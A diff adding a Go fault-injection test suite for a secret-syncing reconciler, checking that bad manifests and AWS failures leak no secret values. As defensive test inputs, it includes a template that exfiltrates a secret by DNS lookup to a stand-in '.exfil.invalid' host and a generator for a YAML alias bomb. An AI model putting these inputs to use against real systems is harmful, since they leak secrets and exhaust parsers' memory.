@@ -1,0 +1,135 @@
+package reconciler_test
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/secretsync/secretsync/internal/smserver"
+	"github.com/secretsync/secretsync/reconciler"
+)
+
+// canary is the shape of value a fault case seeds: it must never appear
+// outside the Secret that holds it.
+const canary = "LEAKCANARY-7f3e(unclosed"
+
+// TestFaultsAndBadInput is the fault suite: each case breaks one thing, in
+// Git or in AWS, after a good pass, and the pass must report it, change no
+// Secret outside the failing object, prune nothing, and show no value in
+// the logs (debug level), errors, Events or the inventory's status.
+func TestFaultsAndBadInput(t *testing.T) {
+	cases := []struct {
+		name  string
+		break_ func(f *fixture)
+		// other says whether the ExternalSecret "other" still has its Secret
+		// as it was (false where the case rightly changes it).
+		otherKept bool
+	}{
+		{"an apiVersion typo", func(f *fixture) {
+			f.commit(map[string]string{"other.yaml": strings.Replace(f.es("other", "v=fault/other"), "external-secrets.io/v1", "external-secret.io/v1", 1)})
+		}, true},
+		{"a kind typo", func(f *fixture) {
+			f.commit(map[string]string{"other.yaml": strings.Replace(f.es("other", "v=fault/other"), "kind: ExternalSecret", "kind: ExternalSecrets", 1)})
+		}, true},
+		{"an ESO kind secretsync does not handle", func(f *fixture) {
+			f.commit(map[string]string{"push.yaml": "apiVersion: external-secrets.io/v1alpha1\nkind: PushSecret\nmetadata: {name: p, namespace: " + f.ns + "}\nspec: {}\n",
+				"other.yaml": ""})
+		}, true},
+		{"a file over the read limit", func(f *fixture) {
+			f.commit(map[string]string{"other.yaml": f.es("other", "v=fault/other") + "# " + strings.Repeat("x", 9<<20) + "\n"})
+		}, true},
+		{"a YAML alias bomb", func(f *fixture) {
+			f.commit(map[string]string{"bomb.yaml": bomb(), "other.yaml": ""})
+		}, true},
+		{"broken YAML", func(f *fixture) {
+			f.commit(map[string]string{"other.yaml": "apiVersion: external-secrets.io/v1\nkind: [unclosed\n"})
+		}, true},
+		{"a plaintext Secret in Git", func(f *fixture) {
+			f.commit(map[string]string{"plain.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: plain, namespace: " + f.ns + "}\nstringData: {p: " + canary + "}\n"})
+			f.remember(canary)
+		}, true},
+		{"a template error over a value", func(f *fixture) {
+			f.rotate("fault/other", canary)
+			f.commit(map[string]string{"other.yaml": strings.Replace(f.es("other", "v=fault/other"), "  data:\n",
+				"  target: {template: {data: {v: '{{ mustRegexMatch .v \"a\" }}{{ fromJson .v }}'}}}\n  data:\n", 1)})
+		}, true},
+		{"a template that tries the network", func(f *fixture) {
+			f.commit(map[string]string{"other.yaml": strings.Replace(f.es("other", "v=fault/other"), "  data:\n",
+				"  target: {template: {data: {v: '{{ getHostByName (printf \"%s.exfil.invalid\" .v) }}'}}}\n  data:\n", 1)})
+		}, true},
+		{"an invalid key name", func(f *fixture) {
+			f.commit(map[string]string{"other.yaml": f.es("other", "bad key=fault/other")})
+		}, true},
+		{"a value over the Secret size limit", func(f *fixture) {
+			f.rotate("fault/other", strings.Repeat("v", 1100<<10))
+		}, true},
+		{"a remote secret that is gone", func(f *fixture) {
+			f.sm.Delete(f.t, "fault/other")
+		}, true},
+		{"AWS throttling on every call", func(f *fixture) {
+			f.sm.SM.SetFault(func(string, string) error { return smserver.ErrThrottled })
+		}, true},
+		{"AWS 5xx on every call", func(f *fixture) {
+			f.sm.SM.SetFault(func(string, string) error { return smserver.ErrInternal })
+		}, true},
+		{"AWS access denied", func(f *fixture) {
+			f.sm.SM.SetFault(func(string, string) error { return smserver.ErrDenied })
+		}, true},
+		{"AWS slower than the pass timeout", func(f *fixture) {
+			f.rec = f.newReconciler(func(c *reconciler.Config) { c.PassTimeout = 300 * time.Millisecond })
+			f.sm.SM.SetLatency(time.Second)
+		}, true},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			f := newFixture(t)
+			f.seed("fault/keep", "value-keep-seeded")
+			f.seed("fault/other", "value-other-seeded")
+			f.commit(map[string]string{"store.yaml": f.store(), "keep.yaml": f.es("keep", "v=fault/keep"), "other.yaml": f.es("other", "v=fault/other")})
+			mustOK(t, f.pass())
+			before := map[string]map[string]string{"keep": data(f.secret("keep")), "other": data(f.secret("other"))}
+
+			c.break_(f)
+			res := f.pass()
+			if res.OK() {
+				t.Fatal("the pass reported success")
+			}
+			if res.Pruned != 0 {
+				t.Fatalf("pruned %d", res.Pruned)
+			}
+			sameData(t, "secret keep", data(f.secret("keep")), before["keep"])
+			if c.otherKept {
+				sameData(t, "secret other", data(f.secret("other")), before["other"])
+			}
+			f.sm.SM.SetFault(nil)
+			f.sm.SM.SetLatency(0)
+
+			var seen []string
+			seen = append(seen, f.events()...)
+			inv, _ := json.Marshal(f.inventory())
+			seen = append(seen, string(inv))
+			for _, e := range res.Errors {
+				seen = append(seen, e.Error())
+			}
+			out := strings.Join(seen, "\n") + f.logs.String()
+			for _, s := range append(f.seeds, "EAKCANARY") {
+				if len(s) >= 8 && strings.Contains(out, s) {
+					t.Fatalf("a seeded value (%d bytes) appears in the events, inventory, errors or logs", len(s))
+				}
+			}
+		})
+	}
+}
+
+// bomb is nine levels of YAML aliases, about 387 million nodes expanded.
+func bomb() string {
+	var b strings.Builder
+	b.WriteString("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\ndata:\n  a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n")
+	prev := "a"
+	for _, n := range "bcdefghi" {
+		b.WriteString("  " + string(n) + ": &" + string(n) + " [" + strings.TrimSuffix(strings.Repeat("*"+prev+",", 9), ",") + "]\n")
+		prev = string(n)
+	}
+	return b.String()
+}
